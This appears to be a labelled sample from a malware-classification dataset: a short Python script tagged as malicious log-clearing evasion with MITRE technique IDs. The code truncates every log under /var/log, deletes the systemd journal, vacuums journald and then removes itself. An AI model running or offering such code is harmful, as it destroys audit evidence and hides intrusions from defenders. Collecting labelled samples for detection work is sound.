# label: malicious family=evasion techniques=T1059.004,T1070.002,T1070.004 lines=3,5,9-11
import os, glob, shutil
for f in glob.glob("/var/log/**/*.log", recursive=True):
    try:
        with open(f, "w"):
            pass
    except OSError:
        pass
shutil.rmtree("/var/log/journal", ignore_errors=True)
os.system("journalctl --vacuum-time=1s >/dev/null 2>&1")
os.remove(__file__)
